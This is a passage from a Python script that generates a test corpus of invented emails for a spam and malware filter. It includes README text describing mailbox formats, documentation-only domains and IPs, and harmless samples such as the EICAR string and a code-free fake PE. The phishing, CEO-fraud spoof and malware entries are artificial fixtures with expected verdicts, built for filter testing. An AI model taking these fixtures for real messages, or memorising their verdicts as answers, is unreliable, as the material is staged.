  keeps the directory: **Maildir readers must ignore dotfiles** (and treat
  `.Lists` as a folder, not a message).
- `archive.mbox` an mboxrd file: each message starts with a `From ` line
  (envelope sender, asctime date in UTC); body lines that start with `From `,
  after any number of `>`, carry one extra `>`. Message 1 has plain `From `
  body lines (stored as `>From `), message 3 has a real `>From ` line (stored
  as `>>From `; unquoted it must read `>From `). The file ends **without** a
  final newline.
- `eml/` loose RFC 5322 files, one message each.
- `mailsphere.toml` an example configuration for the organisation `example`
  (domain example.com, authorised IPs 192.0.2.0/24). Without it there is no
  organisation, so the CEO-fraud spoof can only be caught by its content; with
  it, anti-spoofing rejects it.

## Ground rules

- Every message is invented. The organisation is example.com; honest outside
  senders use NAME.example hosts (the reserved .example TLD) in 198.51.100.0/24; hostile ones
  use made-up .top/.xyz/.click domains and 203.0.113.0/24. The organisation's
  own hosts (mx1.example.com 192.0.2.25, mail.example.com, workstations) are
  in 192.0.2.0/24. Dates are in 2026.
- Deliberate exceptions: the PayPal phish shows `https://www.paypal.com/signin`
  as anchor text (the point is that its href goes elsewhere), and the
  work-from-home spam links to bit.ly and tinyurl.com, because shortener
  rules know those hosts by name. Nothing is fetched.
- The malware is harmless: the EICAR test string, a fake PE with no code, and
  an inert `.js` placeholder inside the smuggled zip. Desktop antivirus may
  still (correctly) flag `eml/eicar-in-zip.eml`.

## Messages

"Verdict" is what a careful filter should decide: `deliver`, `spam`,
`malicious` (content destroyed, people notified) or `reject` (refused at the
perimeter: the spoof, with the configuration loaded). Phishing counts as
`spam` unless a filter treats credential-harvesting attachments as malicious;
it must never be `deliver`.

| # | file | kind | verdict | what it demonstrates |
|---|---|---|---|---|
"""


def write_readme(samples: list[Sample], where: dict[int, str]) -> None:
    rows = []
    for index, sample in enumerate(samples):
        demonstrates = sample.demonstrates.replace("|", "\\|")
        rows.append(f"| {index + 1} | `{where[index]}` | {sample.kind} | {sample.verdict} | {demonstrates} |")
    counts: dict[str, int] = {}
    for sample in samples:
        counts[sample.verdict] = counts.get(sample.verdict, 0) + 1
    summary = ", ".join(f"{verdict}: {count}" for verdict, count in sorted(counts.items()))
    README.write_text(README_HEAD + "\n".join(rows) + f"\n\n{len(samples)} messages ({summary}).\n",
                      encoding="utf-8")


def main() -> None:
    samples = [make() for make in SAMPLES]
    where = write_all(samples)
    write_readme(samples, where)
    assert hashlib.sha256(EICAR).hexdigest() == EICAR_SHA256 and len(EICAR) == 68
    print(f"wrote {len(samples)} messages under {HERE}")


if __name__ == "__main__":
    main()
